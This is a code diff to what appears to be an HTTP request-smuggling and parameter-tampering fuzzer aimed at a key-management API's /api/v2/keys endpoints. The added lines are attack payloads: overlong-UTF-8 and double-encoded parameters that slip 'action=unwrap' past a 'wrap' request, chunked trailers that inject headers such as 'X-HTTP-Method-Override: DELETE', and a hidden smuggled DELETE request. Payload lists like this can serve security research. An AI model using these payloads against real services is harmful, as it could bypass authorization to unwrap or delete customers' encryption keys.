@@ -87,6 +87,9 @@ TARGETS = [
     b"/api/v2/keys/" + KEY + b"?x=1%26action=unwrap", b"/api/v2/keys/" + KEY + b"?x%26action=unwrap",
     b"/api/v2/keys/" + KEY + b"?x=1%2526action=unwrap",
     b"/api/v2/keys/" + KEY + b"?action%3dunwrap",
+    b"/api/v2/keys/" + KEY + b"?action=wrap&%c1%a1ction=unwrap",
+    b"/api/v2/keys/" + KEY + b"?action=wrap&x=1%c0%a6action=unwrap",
+    b"/api/v2/keys/" + KEY + b"?action=wrap&%25c1%25a1ction=unwrap",
     b"/api/v2/keys/" + KEY + b"?" + b"+" * 260 + b"_method=DELETE",
     b"/api/v2/keys/" + KEY + b"?_method=DELETE",
     b"/api/v2/keys/" + KEY + b"/actions/wrap?action=unwrap", b"/api/v2/keys?action=wrap",
@@ -123,7 +126,8 @@ LASTS = [
     b"0\r\n X: folded\r\n\r\n", b"0\r\nTransfer_Encoding: x\r\n\r\n",
     b"0\r\nbluemix-instance: x\r\n\r\n", b"0\r\nX: y", b"0\r\n\n", b"0\r\nX\r\n\r\n",
     b"0\r\nX : y\r\n\r\n", b"0\r\nX:\t y \r\n\r\n", b"0\r\n\r", b"0\r\nX-Forwarded-For: 1\r\n\r\n",
-    b"0\r\nX: \xff\r\n\r\n", b"",
+    b"0\r\nX: \xff\r\n\r\n", b"", b"0\r\nX_Real_IP: 1\r\n\r\n", b"0\r\nIf.Match: x\r\n\r\n",
+    b"0\r\nX-HTTP-Method-Override: DELETE\r\n\r\n",
 ]
 HIDDEN = b"DELETE /api/v2/keys/hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"
 
